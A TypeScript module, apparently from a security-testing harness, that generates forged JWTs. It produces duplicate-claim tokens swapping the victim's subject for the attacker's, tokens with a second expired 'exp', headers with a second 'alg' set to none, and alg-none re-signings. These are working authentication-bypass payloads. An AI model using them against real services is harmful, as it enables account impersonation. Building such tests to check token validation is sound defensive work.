/**
 * Signed tokens in which a claim stands twice, the victim's or the good one first. A parser of JSON takes the last
 * (RFC 7519 section 4), and then they are tokens of the attacker or refused.
 */
import type { AttackContext } from '../attack.ts'
import { mint, numericDate, readToken, remint } from './forge-token.ts'
import type { Plainer, Variant } from './token-attack.ts'

type Context = AttackContext<'jwt' | 'signingKey'>

/** With `plain` instead: tokens with one claim of each, that would explain why those get in. */
export function doubledClaims(context: Context, how: { readonly plain: true }): Plainer[]
/** `spell` spells the name of the second claim. */
export function doubledClaims(context: Context, how: { readonly spell: (name: string) => string }): Variant[]
export function doubledClaims(
  { attacker, victim, signingKey, target }: Context,
  how: { readonly plain?: true; readonly spell?: (name: string) => string },
): (Variant | Plainer)[] {
  const { subject } = target.profile.claims
  const past = { iat: numericDate(-87_000), exp: numericDate(-86_400) }
  const { spell } = how
  const { header, payload } = readToken(victim.token)
  if (spell === undefined) {
    const expired = remint(signingKey, victim.token, past)
    const unsigned = mint(signingKey, { ...header, alg: 'none' }, payload)
    return [
      { attack: 'token/claim-exp-past', name: 'a token that expired yesterday', token: expired },
      { attack: 'token/alg-none-with-old-sig', name: 'alg none over a signature', token: unsigned },
    ]
  }
  const own = readToken(attacker.token).payload
  const token = (claims: Record<string, unknown>, name: string, value: unknown, head: unknown = header) =>
    mint(signingKey, head, `${JSON.stringify(claims).slice(0, -1)},"${spell(name)}":${JSON.stringify(value)}}`)
  const spelt = spell(subject)
  const none = `${JSON.stringify(header).slice(0, -1)},"${spell('alg')}":"none"}`
  return [
    {
      name: `"${subject}" of the victim, then "${spelt}" of the attacker`,
      token: token({ ...own, [subject]: payload[subject] }, subject, own[subject]),
    },
    { name: `a good "exp", then "${spell('exp')}" of yesterday`, token: token(payload, 'exp', past.exp) },
    { name: `a good "alg", then "${spell('alg')}" none`, token: token(payload, 'gatecrash', true, none) },
  ]
}
